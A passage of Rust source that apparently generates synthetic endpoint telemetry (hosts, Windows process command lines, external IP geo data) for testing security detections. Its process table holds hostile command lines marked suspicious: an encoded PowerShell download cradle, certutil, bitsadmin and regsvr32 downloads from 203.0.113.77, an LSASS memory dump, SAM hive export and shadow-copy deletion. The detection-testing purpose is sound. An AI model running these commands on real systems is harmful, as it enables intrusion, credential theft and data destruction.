                // vCenter-assigned VMware addresses: 00:50:56:80:00:00 - 00:50:56:bf:ff:ff.
                nic = 0x80_0000 | (nic & 0x3F_FFFF);
            }
            let v = (u64::from(oui[0]) << 40)
                | (u64::from(oui[1]) << 32)
                | (u64::from(oui[2]) << 24)
                | nic;
            if macs.insert(v) {
                break v;
            }
        };

        let c = &mut pool.cols;
        c[0].push(&name);
        let lname = name.to_ascii_lowercase();
        c[1].push(&lname);
        let _ = write!(c[2].data, "{lname}.corp.example.com");
        c[2].end();
        push_ipv4(&mut c[3].data, ip);
        c[3].end();
        for b in (0..6).rev() {
            push_hex(&mut c[4].data, mac >> (b * 8), 2, false);
            if b > 0 {
                c[4].data.push('-');
            }
        }
        c[4].end();
        push_hex(&mut c[5].data, g.next(), 16, false);
        push_hex(&mut c[5].data, g.next(), 16, false);
        c[5].end();
        c[6].push(os);
        push_uuid(&mut c[7].data, &mut g);
        c[7].end();
    }
    pool.check_complete();
    pool
}

// ---------------------------------------------------------------------------------------------
// Processes
// ---------------------------------------------------------------------------------------------

/// A Windows binary: image name and full path.
struct Bin {
    name: &'static str,
    path: &'static str,
}

const fn bin(name: &'static str, path: &'static str) -> Bin {
    Bin { name, path }
}

/// Every binary a process entity or its parent can be.
const BINS: &[Bin] = &[
    bin("smss.exe", r"C:\Windows\System32\smss.exe"),
    bin("wininit.exe", r"C:\Windows\System32\wininit.exe"),
    bin("winlogon.exe", r"C:\Windows\System32\winlogon.exe"),
    bin("services.exe", r"C:\Windows\System32\services.exe"),
    bin("lsass.exe", r"C:\Windows\System32\lsass.exe"),
    bin("userinit.exe", r"C:\Windows\System32\userinit.exe"),
    bin("explorer.exe", r"C:\Windows\explorer.exe"),
    bin("svchost.exe", r"C:\Windows\System32\svchost.exe"),
    bin("conhost.exe", r"C:\Windows\System32\conhost.exe"),
    bin(
        "RuntimeBroker.exe",
        r"C:\Windows\System32\RuntimeBroker.exe",
    ),
    bin("dllhost.exe", r"C:\Windows\System32\dllhost.exe"),
    bin("taskhostw.exe", r"C:\Windows\System32\taskhostw.exe"),
    bin("sihost.exe", r"C:\Windows\System32\sihost.exe"),
    bin("ctfmon.exe", r"C:\Windows\System32\ctfmon.exe"),
    bin("smartscreen.exe", r"C:\Windows\System32\smartscreen.exe"),
    bin(
        "SearchIndexer.exe",
        r"C:\Windows\System32\SearchIndexer.exe",
    ),
    bin(
        "SearchProtocolHost.exe",
        r"C:\Windows\System32\SearchProtocolHost.exe",
    ),
    bin(
        "backgroundTaskHost.exe",
        r"C:\Windows\System32\backgroundTaskHost.exe",
    ),
    bin("spoolsv.exe", r"C:\Windows\System32\spoolsv.exe"),
    bin("msiexec.exe", r"C:\Windows\System32\msiexec.exe"),
    bin("WmiPrvSE.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe"),
    bin("WMIC.exe", r"C:\Windows\System32\wbem\WMIC.exe"),
    bin("cmd.exe", r"C:\Windows\System32\cmd.exe"),
    bin(
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    ),
    bin("rundll32.exe", r"C:\Windows\System32\rundll32.exe"),
    bin("regsvr32.exe", r"C:\Windows\System32\regsvr32.exe"),
    bin("certutil.exe", r"C:\Windows\System32\certutil.exe"),
    bin("mshta.exe", r"C:\Windows\System32\mshta.exe"),
    bin("wscript.exe", r"C:\Windows\System32\wscript.exe"),
    bin("schtasks.exe", r"C:\Windows\System32\schtasks.exe"),
    bin("net.exe", r"C:\Windows\System32\net.exe"),
    bin("whoami.exe", r"C:\Windows\System32\whoami.exe"),
    bin("nltest.exe", r"C:\Windows\System32\nltest.exe"),
    bin("ipconfig.exe", r"C:\Windows\System32\ipconfig.exe"),
    bin("reg.exe", r"C:\Windows\System32\reg.exe"),
    bin("vssadmin.exe", r"C:\Windows\System32\vssadmin.exe"),
    bin("bitsadmin.exe", r"C:\Windows\System32\bitsadmin.exe"),
    bin("gpupdate.exe", r"C:\Windows\System32\gpupdate.exe"),
    bin("notepad.exe", r"C:\Windows\System32\notepad.exe"),
    bin("mstsc.exe", r"C:\Windows\System32\mstsc.exe"),
    bin(
        "chrome.exe",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    ),
    bin(
        "msedge.exe",
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    ),
    bin(
        "msedgewebview2.exe",
        r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\136.0.3240.64\msedgewebview2.exe",
    ),
    bin(
        "OUTLOOK.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    ),
    bin(
        "WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    ),
    bin(
        "EXCEL.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
    ),
    bin(
        "POWERPNT.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\POWERPNT.EXE",
    ),
    bin(
        "ms-teams.exe",
        r"C:\Program Files\WindowsApps\MSTeams_25122.1415.3698.6812_x64__8wekyb3d8bbwe\ms-teams.exe",
    ),
    bin(
        "OneDrive.exe",
        r"C:\Program Files\Microsoft OneDrive\OneDrive.exe",
    ),
    bin(
        "MsMpEng.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25040.2-0\MsMpEng.exe",
    ),
    bin(
        "MpCmdRun.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25040.2-0\MpCmdRun.exe",
    ),
    bin("CcmExec.exe", r"C:\Windows\CCM\CcmExec.exe"),
];

/// One way a binary runs: its command line, its usual parent and how common it is.
/// Command line placeholders: `{s}` a small number (4-250), `{n}` a 3-4 digit number,
/// `{t}` a 10-11 digit number,
/// `{h}` 5 hex digits, `{g}` a lower-case UUID.
struct Variant {
    bin: &'static str,
    parent: &'static str,
    weight: u32,
    suspicious: bool,
    cmd: &'static str,
}

const fn ok(bin: &'static str, parent: &'static str, weight: u32, cmd: &'static str) -> Variant {
    Variant {
        bin,
        parent,
        weight,
        suspicious: false,
        cmd,
    }
}

const fn bad(bin: &'static str, parent: &'static str, weight: u32, cmd: &'static str) -> Variant {
    Variant {
        bin,
        parent,
        weight,
        suspicious: true,
        cmd,
    }
}

/// An encoded download cradle: the base64 is UTF-16LE
/// `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')`.
const PS_ENC_DOWNLOAD: &str = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwBhACcAKQA=";

#[rustfmt::skip]
const VARIANTS: &[Variant] = &[
    // Service host and the rest of the always-running system.
    ok("svchost.exe", "services.exe", 40, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    ok("svchost.exe", "services.exe", 30, r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"),
    ok("svchost.exe", "services.exe", 25, r"C:\Windows\system32\svchost.exe -k RPCSS -p"),
    ok("svchost.exe", "services.exe", 22, r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog"),
    ok("svchost.exe", "services.exe", 22, r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache"),
    ok("svchost.exe", "services.exe", 18, r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS"),
    ok("svchost.exe", "services.exe", 16, r"C:\Windows\system32\svchost.exe -k wsappx -p -s AppXSvc"),
    ok("svchost.exe", "services.exe", 15, r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s WpnUserService_{h}"),
    ok("svchost.exe", "services.exe", 14, r"C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain"),
    ok("svchost.exe", "services.exe", 14, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv"),
    ok("RuntimeBroker.exe", "svchost.exe", 30, r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
    ok("dllhost.exe", "svchost.exe", 22, r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
    ok("dllhost.exe", "svchost.exe", 10, r"C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"),
    ok("taskhostw.exe", "svchost.exe", 18, "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"),
    ok("taskhostw.exe", "svchost.exe", 10, "taskhostw.exe Install $(Arg0)"),
    ok("taskhostw.exe", "svchost.exe", 6, "taskhostw.exe SYSTEM"),
    ok("sihost.exe", "svchost.exe", 8, "sihost.exe"),
    ok("ctfmon.exe", "svchost.exe", 8, r"C:\Windows\system32\ctfmon.exe"),
    ok("smartscreen.exe", "svchost.exe", 8, r"C:\Windows\System32\smartscreen.exe -Embedding"),
    ok("backgroundTaskHost.exe", "svchost.exe", 8, r"C:\Windows\system32\backgroundTaskHost.exe -ServerName:BackgroundTaskHost.WebAccountProvider"),
    ok("WmiPrvSE.exe", "svchost.exe", 14, r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
    ok("WmiPrvSE.exe", "svchost.exe", 8, r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding"),
    ok("SearchIndexer.exe", "services.exe", 4, r"C:\Windows\system32\SearchIndexer.exe /Embedding"),
    ok("SearchProtocolHost.exe", "SearchIndexer.exe", 10, r"C:\Windows\system32\SearchProtocolHost.exe Global\UsGthrFltPipeMssGthrPipe5_ Global\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646"),
    ok("spoolsv.exe", "services.exe", 4, r"C:\Windows\System32\spoolsv.exe"),
    ok("MsMpEng.exe", "services.exe", 8, "MsMpEng.exe"),
    ok("MpCmdRun.exe", "svchost.exe", 4, "MpCmdRun.exe -IdleTask -TaskName WdCacheMaintenance"),
    ok("MpCmdRun.exe", "MsMpEng.exe", 3, "MpCmdRun.exe SignaturesUpdateService -ScheduleJob -UnmanagedUpdate"),
    ok("CcmExec.exe", "services.exe", 5, r"C:\Windows\CCM\CcmExec.exe"),
    ok("msiexec.exe", "services.exe", 5, r"C:\Windows\system32\msiexec.exe /V"),
    ok("msiexec.exe", "CcmExec.exe", 3, r"msiexec.exe /i C:\Windows\ccmcache\3f\setup.msi /qn /norestart"),
    ok("lsass.exe", "wininit.exe", 2, r"C:\Windows\system32\lsass.exe"),
    ok("services.exe", "wininit.exe", 2, r"C:\Windows\system32\services.exe"),
    ok("userinit.exe", "winlogon.exe", 3, r"C:\Windows\system32\userinit.exe"),
    ok("winlogon.exe", "smss.exe", 2, "winlogon.exe"),
    ok("wininit.exe", "smss.exe", 1, "wininit.exe"),
    ok("conhost.exe", "cmd.exe", 36, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    ok("conhost.exe", "powershell.exe", 14, r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    // The user's desktop.
    ok("explorer.exe", "userinit.exe", 14, r"C:\Windows\Explorer.EXE"),
    ok("chrome.exe", "explorer.exe", 15, "chrome.exe --profile-directory=Default"),
    ok("chrome.exe", "chrome.exe", 48, "chrome.exe --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={s} --launch-time-ticks={t} --mojo-platform-channel-handle={n} /prefetch:1"),
    ok("chrome.exe", "chrome.exe", 18, "chrome.exe --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:11"),
    ok("chrome.exe", "chrome.exe", 8, "chrome.exe --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= --mojo-platform-channel-handle={n} /prefetch:2"),
    ok("msedge.exe", "explorer.exe", 14, "msedge.exe --profile-directory=Default"),
    ok("msedge.exe", "explorer.exe", 5, "msedge.exe --no-startup-window --win-session-start"),
    ok("msedge.exe", "msedge.exe", 42, "msedge.exe --type=renderer --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={s} --launch-time-ticks={t} --mojo-platform-channel-handle={n} /prefetch:1"),
    ok("msedge.exe", "msedge.exe", 14, "msedge.exe --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:11"),
    ok("msedgewebview2.exe", "ms-teams.exe", 14, "msedgewebview2.exe --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --type=renderer --lang=en-US --renderer-client-id={s} --mojo-platform-channel-handle={n} /prefetch:1"),
    ok("ms-teams.exe", "explorer.exe", 12, "ms-teams.exe"),
    ok("ms-teams.exe", "explorer.exe", 8, "ms-teams.exe msteams:system-initiated"),
    ok("OUTLOOK.EXE", "explorer.exe", 24, "OUTLOOK.EXE"),
    ok("OUTLOOK.EXE", "explorer.exe", 4, "OUTLOOK.EXE /recycle"),
    ok("WINWORD.EXE", "explorer.exe", 12, "WINWORD.EXE /n"),
    ok("WINWORD.EXE", "svchost.exe", 4, "WINWORD.EXE /Automation -Embedding"),
    ok("EXCEL.EXE", "explorer.exe", 12, "EXCEL.EXE"),
    ok("EXCEL.EXE", "svchost.exe", 4, "EXCEL.EXE /automation -Embedding"),
    ok("POWERPNT.EXE", "explorer.exe", 5, "POWERPNT.EXE"),
    ok("OneDrive.exe", "explorer.exe", 12, "OneDrive.exe /background"),
    ok("notepad.exe", "explorer.exe", 5, r"C:\Windows\system32\notepad.exe"),
    ok("mstsc.exe", "explorer.exe", 3, r"C:\Windows\system32\mstsc.exe"),
    // Admin and scripting tools, mostly benign.
    ok("cmd.exe", "explorer.exe", 12, r"C:\Windows\system32\cmd.exe"),
    ok("cmd.exe", "userinit.exe", 5, r"C:\Windows\system32\cmd.exe /c \\corp.example.com\NETLOGON\logon.bat"),
    ok("cmd.exe", "explorer.exe", 4, "cmd.exe /c ipconfig /all"),
    ok("powershell.exe", "explorer.exe", 10, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
    ok("powershell.exe", "CcmExec.exe", 8, r"powershell.exe -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass -File C:\Windows\CCM\SystemTemp\{g}.ps1"),
    ok("powershell.exe", "svchost.exe", 6, r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\IT\Scripts\Get-Inventory.ps1"),
    ok("powershell.exe", "explorer.exe", 2, "powershell.exe -NoProfile -Command Get-ADComputer -Filter * -Properties OperatingSystem"),
    ok("wscript.exe", "userinit.exe", 2, r"wscript.exe //B //Nologo \\corp.example.com\NETLOGON\map-drives.vbs"),
    ok("net.exe", "cmd.exe", 3, r"net.exe use Z: \\FS-01\shared /persistent:yes"),
    ok("whoami.exe", "cmd.exe", 2, "whoami.exe"),
    ok("ipconfig.exe", "cmd.exe", 3, "ipconfig.exe /all"),
    ok("ipconfig.exe", "cmd.exe", 2, "ipconfig.exe /flushdns"),
    ok("gpupdate.exe", "cmd.exe", 2, "gpupdate.exe /force"),
    ok("reg.exe", "cmd.exe", 2, r"reg.exe query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"),
    ok("schtasks.exe", "cmd.exe", 2, "schtasks.exe /query /fo LIST /v"),
    ok("certutil.exe", "cmd.exe", 2, "certutil.exe -store My"),
    ok("rundll32.exe", "svchost.exe", 6, r"C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask"),
    ok("rundll32.exe", "svchost.exe", 4, r"C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding"),
    ok("rundll32.exe", "explorer.exe", 3, r"C:\Windows\system32\rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
    ok("regsvr32.exe", "msiexec.exe", 2, r"regsvr32.exe /s C:\Windows\System32\msxml3.dll"),
    ok("WMIC.exe", "cmd.exe", 2, "wmic.exe computersystem get name,domain"),
    ok("vssadmin.exe", "cmd.exe", 1, "vssadmin.exe list shadows"),
    // Suspicious: the handful of command lines a detection should fire on.
    bad("powershell.exe", "cmd.exe", 2, PS_ENC_DOWNLOAD),
    bad("powershell.exe", "WINWORD.EXE", 1, PS_ENC_DOWNLOAD),
    bad("powershell.exe", "cmd.exe", 1, "powershell.exe -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"),
    bad("cmd.exe", "WINWORD.EXE", 1, "cmd.exe /c start /min powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwBhACcAKQA="),
    bad("cmd.exe", "WmiPrvSE.exe", 1, r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__{t}.{n} 2>&1"),
    bad("certutil.exe", "cmd.exe", 1, r"certutil.exe -urlcache -split -f http://203.0.113.77/update.exe C:\Users\Public\update.exe"),
    bad("certutil.exe", "cmd.exe", 1, r"certutil.exe -decode C:\Users\Public\enc.txt C:\Users\Public\run.exe"),
    bad("mshta.exe", "explorer.exe", 1, "mshta.exe http://update.example.org/invoice.hta"),
    bad("rundll32.exe", "cmd.exe", 1, r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\lsass.dmp full"),
    bad("rundll32.exe", "cmd.exe", 1, r"rundll32.exe C:\Users\Public\Libraries\update.dll,DllRegisterServer"),
    bad("regsvr32.exe", "cmd.exe", 1, "regsvr32.exe /s /n /u /i:http://203.0.113.77/file.sct scrobj.dll"),
    bad("wscript.exe", "explorer.exe", 1, r"wscript.exe C:\Users\Public\Downloads\Invoice_{n}.js"),
    bad("schtasks.exe", "cmd.exe", 1, r"schtasks.exe /create /sc minute /mo 30 /tn WindowsUpdateCheck /tr C:\Users\Public\update.exe /f"),
    bad("net.exe", "cmd.exe", 1, "net.exe user /domain"),
    bad("net.exe", "cmd.exe", 1, "net.exe localgroup administrators"),
    bad("whoami.exe", "cmd.exe", 1, "whoami.exe /all"),
    bad("whoami.exe", "powershell.exe", 1, "whoami.exe /priv"),
    bad("nltest.exe", "cmd.exe", 1, "nltest.exe /dclist:corp.example.com"),
    bad("nltest.exe", "cmd.exe", 1, "nltest.exe /domain_trusts /all_trusts"),
    bad("reg.exe", "cmd.exe", 1, r"reg.exe save HKLM\SAM C:\Windows\Temp\sam.save"),
    bad("vssadmin.exe", "cmd.exe", 1, "vssadmin.exe delete shadows /all /quiet"),
    bad("WMIC.exe", "cmd.exe", 1, "wmic.exe shadowcopy delete /nointeractive"),
    bad("bitsadmin.exe", "cmd.exe", 1, r"bitsadmin.exe /transfer job1 /download /priority high http://203.0.113.77/a.exe C:\Users\Public\a.exe"),
];

/// The first entities are the busiest; they are always drawn from the benign variants.
const BENIGN_HEAD: usize = 16;

fn find_bin(name: &str) -> &'static Bin {
    BINS.iter()
        .find(|b| b.name == name)
        .unwrap_or_else(|| panic!("process table: no binary {name}"))
}

/// `\Device\HarddiskVolume3\…` form of a `C:\…` path.
fn push_device_path(s: &mut String, path: &str) {
    s.push_str(r"\Device\HarddiskVolume3\");
    s.push_str(path.strip_prefix(r"C:\").unwrap_or(path));
}

/// Hex digest-shaped text derived from the path alone (the same binary always has the same
/// hashes, whatever the seed): `words` 64-bit words.
fn push_path_hash(s: &mut String, path: &str, salt: u64, words: usize) {
    let mut h = fnv1a(path) ^ salt;
    for _ in 0..words {
        h = splitmix64(h);
        push_hex(s, h, 16, false);
    }
}

/// Expands the command line placeholders of `cmd` into `out`.
fn push_cmdline(out: &mut String, cmd: &str, g: &mut Gen) {
    let mut rest = cmd;
    while let Some(at) = rest.find('{') {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        if let Some(t) = tail.strip_prefix("{s}") {
            let _ = write!(out, "{}", g.range(4, 250));
            rest = t;
        } else if let Some(t) = tail.strip_prefix("{n}") {
            let _ = write!(out, "{}", g.range(100, 9_999));
            rest = t;
        } else if let Some(t) = tail.strip_prefix("{t}") {
            let _ = write!(out, "{}", g.range(1_000_000_000, 99_999_999_999));
            rest = t;
        } else if let Some(t) = tail.strip_prefix("{h}") {
            push_hex(out, g.next(), 5, false);
            rest = t;
        } else if let Some(t) = tail.strip_prefix("{g}") {
            push_uuid(out, g);
            rest = t;
        } else {
            out.push('{');
            rest = &tail[1..];
        }
    }
    out.push_str(rest);
}

fn gen_processes(seed: u64, n: usize) -> Pool {
    let key = kind_key(seed, EntityKind::Process);
    let mut pool = Pool::new(EntityKind::Process, n, &[12, 50, 60, 90, 12, 40, 64, 32]);
    for i in 0..n {
        let mut g = Gen::entity(key, i);
        let head = i < BENIGN_HEAD;
        let v = &VARIANTS[g.weighted(
            VARIANTS,
            |v| {
                if head && v.suspicious { 0 } else { v.weight }
            },
        )];
        let b = find_bin(v.bin);
        let p = find_bin(v.parent);
        let c = &mut pool.cols;
        c[0].push(b.name);
        c[1].push(b.path);
        push_device_path(&mut c[2].data, b.path);
        c[2].end();
        push_cmdline(&mut c[3].data, v.cmd, &mut g);
        c[3].end();
        c[4].push(p.name);
        c[5].push(p.path);
        push_path_hash(&mut c[6].data, b.path, 0x5348_4132_3536, 4);
        c[6].end();
        push_path_hash(&mut c[7].data, b.path, 0x004d_4435, 2);
        c[7].end();
    }
    pool.check_complete();
    pool
}

// ---------------------------------------------------------------------------------------------
// External IPs
// ---------------------------------------------------------------------------------------------

/// A geo/ASN row and the public prefixes its addresses are drawn from.
struct Geo {
    country: &'static str,
    cc: &'static str,
    city: &'static str,
    lat: &'static str,
    lon: &'static str,
    asn: &'static str,
    org: &'static str,
    weight: u32,
    prefixes: &'static [(u32, u8)],
}

const AMAZON: &str = "Amazon.com, Inc.";
const DIGITALOCEAN: &str = "DigitalOcean, LLC";
const OVH: &str = "OVH SAS";
const HETZNER: &str = "Hetzner Online GmbH";

#[rustfmt::skip]
const GEOS: &[Geo] = &[
    Geo { country: "United States", cc: "US", city: "Ashburn", lat: "39.0438", lon: "-77.4874", asn: "16509", org: AMAZON, weight: 8, prefixes: &[(ip4(3, 80, 0, 0), 12), (ip4(54, 144, 0, 0), 14)] },
    Geo { country: "Ireland", cc: "IE", city: "Dublin", lat: "53.3498", lon: "-6.2603", asn: "16509", org: AMAZON, weight: 3, prefixes: &[(ip4(18, 200, 0, 0), 16), (ip4(34, 240, 0, 0), 13)] },
    Geo { country: "United States", cc: "US", city: "Council Bluffs", lat: "41.2619", lon: "-95.8608", asn: "396982", org: "Google LLC", weight: 5, prefixes: &[(ip4(35, 184, 0, 0), 13), (ip4(34, 66, 0, 0), 15)] },
    Geo { country: "United States", cc: "US", city: "Boydton", lat: "36.6676", lon: "-78.3875", asn: "8075", org: "Microsoft Corporation", weight: 5, prefixes: &[(ip4(20, 42, 0, 0), 15), (ip4(40, 76, 0, 0), 14)] },
    Geo { country: "United States", cc: "US", city: "San Francisco", lat: "37.7749", lon: "-122.4194", asn: "13335", org: "Cloudflare, Inc.", weight: 4, prefixes: &[(ip4(104, 16, 0, 0), 13), (ip4(172, 64, 0, 0), 13)] },
    Geo { country: "United States", cc: "US", city: "North Bergen", lat: "40.7930", lon: "-74.0247", asn: "14061", org: DIGITALOCEAN, weight: 6, prefixes: &[(ip4(159, 203, 0, 0), 16), (ip4(167, 99, 0, 0), 16), (ip4(104, 236, 0, 0), 16)] },
    Geo { country: "Germany", cc: "DE", city: "Frankfurt am Main", lat: "50.1109", lon: "8.6821", asn: "14061", org: DIGITALOCEAN, weight: 4, prefixes: &[(ip4(164, 92, 128, 0), 17), (ip4(46, 101, 128, 0), 17)] },
    Geo { country: "Singapore", cc: "SG", city: "Singapore", lat: "1.3521", lon: "103.8198", asn: "14061", org: DIGITALOCEAN, weight: 3, prefixes: &[(ip4(128, 199, 0, 0), 16), (ip4(139, 59, 192, 0), 18)] },
    Geo { country: "France", cc: "FR", city: "Roubaix", lat: "50.6942", lon: "3.1746", asn: "16276", org: OVH, weight: 5, prefixes: &[(ip4(51, 68, 0, 0), 16), (ip4(137, 74, 0, 0), 16), (ip4(149, 202, 0, 0), 16)] },
    Geo { country: "Canada", cc: "CA", city: "Beauharnois", lat: "45.3151", lon: "-73.8779", asn: "16276", org: OVH, weight: 2, prefixes: &[(ip4(144, 217, 0, 0), 16), (ip4(158, 69, 0, 0), 16)] },
    Geo { country: "Germany", cc: "DE", city: "Falkenstein", lat: "50.4779", lon: "12.3713", asn: "24940", org: HETZNER, weight: 5, prefixes: &[(ip4(88, 198, 0, 0), 16), (ip4(148, 251, 0, 0), 16), (ip4(5, 9, 0, 0), 16)] },
    Geo { country: "Finland", cc: "FI", city: "Helsinki", lat: "60.1699", lon: "24.9384", asn: "24940", org: HETZNER, weight: 3, prefixes: &[(ip4(95, 216, 0, 0), 16), (ip4(135, 181, 0, 0), 16), (ip4(65, 108, 0, 0), 16)] },
    Geo { country: "Germany", cc: "DE", city: "Nuremberg", lat: "49.4521", lon: "11.0767", asn: "51167", org: "Contabo GmbH", weight: 3, prefixes: &[(ip4(161, 97, 0, 0), 16), (ip4(207, 180, 192, 0), 18)] },
    Geo { country: "United States", cc: "US", city: "Piscataway", lat: "40.4993", lon: "-74.3990", asn: "20473", org: "The Constant Company, LLC", weight: 4, prefixes: &[(ip4(45, 32, 0, 0), 16), (ip4(45, 76, 0, 0), 16), (ip4(149, 28, 0, 0), 16)] },
    Geo { country: "United States", cc: "US", city: "Newark", lat: "40.7357", lon: "-74.1724", asn: "63949", org: "Akamai Connected Cloud", weight: 3, prefixes: &[(ip4(45, 79, 0, 0), 16), (ip4(50, 116, 0, 0), 18)] },
    Geo { country: "Netherlands", cc: "NL", city: "Amsterdam", lat: "52.3676", lon: "4.9041", asn: "60781", org: "LeaseWeb Netherlands B.V.", weight: 3, prefixes: &[(ip4(85, 17, 0, 0), 16), (ip4(37, 48, 64, 0), 18)] },
    Geo { country: "France", cc: "FR", city: "Paris", lat: "48.8566", lon: "2.3522", asn: "12876", org: "Scaleway S.A.S.", weight: 2, prefixes: &[(ip4(51, 15, 0, 0), 16), (ip4(163, 172, 0, 0), 16)] },
    Geo { country: "United States", cc: "US", city: "Las Vegas", lat: "36.1699", lon: "-115.1398", asn: "53667", org: "FranTech Solutions", weight: 2, prefixes: &[(ip4(209, 141, 32, 0), 19), (ip4(198, 98, 48, 0), 20)] },
    Geo { country: "Romania", cc: "RO", city: "Bucharest", lat: "44.4268", lon: "26.1025", asn: "9009", org: "M247 Europe SRL", weight: 2, prefixes: &[(ip4(37, 120, 128, 0), 18), (ip4(185, 236, 200, 0), 22)] },
    Geo { country: "United States", cc: "US", city: "Chicago", lat: "41.8781", lon: "-87.6298", asn: "7922", org: "Comcast Cable Communications, LLC", weight: 4, prefixes: &[(ip4(73, 0, 0, 0), 8), (ip4(98, 192, 0, 0), 10)] },
    Geo { country: "United States", cc: "US", city: "Dallas", lat: "32.7767", lon: "-96.7970", asn: "7018", org: "AT&T Services, Inc.", weight: 3, prefixes: &[(ip4(99, 0, 0, 0), 11), (ip4(12, 0, 0, 0), 9)] },
    Geo { country: "Canada", cc: "CA", city: "Toronto", lat: "43.6532", lon: "-79.3832", asn: "812", org: "Rogers Communications Canada Inc.", weight: 2, prefixes: &[(ip4(99, 224, 0, 0), 11), (ip4(174, 112, 0, 0), 12)] },
    Geo { country: "United Kingdom", cc: "GB", city: "London", lat: "51.5072", lon: "-0.1276", asn: "2856", org: "British Telecommunications PLC", weight: 3, prefixes: &[(ip4(86, 128, 0, 0), 10), (ip4(81, 128, 0, 0), 12)] },
    Geo { country: "Germany", cc: "DE", city: "Berlin", lat: "52.5200", lon: "13.4050", asn: "3320", org: "Deutsche Telekom AG", weight: 3, prefixes: &[(ip4(79, 192, 0, 0), 10), (ip4(84, 128, 0, 0), 10)] },
    Geo { country: "France", cc: "FR", city: "Paris", lat: "48.8566", lon: "2.3522", asn: "3215", org: "Orange S.A.", weight: 2, prefixes: &[(ip4(90, 0, 0, 0), 9)] },
    Geo { country: "Brazil", cc: "BR", city: "Sao Paulo", lat: "-23.5505", lon: "-46.6333", asn: "18881", org: "TELEFONICA BRASIL S.A", weight: 3, prefixes: &[(ip4(177, 32, 0, 0), 12), (ip4(189, 0, 0, 0), 13)] },
    Geo { country: "Russia", cc: "RU", city: "Moscow", lat: "55.7558", lon: "37.6173", asn: "12389", org: "Rostelecom", weight: 3, prefixes: &[(ip4(95, 167, 0, 0), 16), (ip4(178, 66, 0, 0), 15)] },
    Geo { country: "China", cc: "CN", city: "Shanghai", lat: "31.2304", lon: "121.4737", asn: "4134", org: "Chinanet", weight: 3, prefixes: &[(ip4(222, 64, 0, 0), 13), (ip4(180, 152, 0, 0), 13)] },
    Geo { country: "China", cc: "CN", city: "Beijing", lat: "39.9042", lon: "116.4074", asn: "4837", org: "CHINA UNICOM China169 Backbone", weight: 2, prefixes: &[(ip4(123, 112, 0, 0), 12), (ip4(114, 240, 0, 0), 12)] },
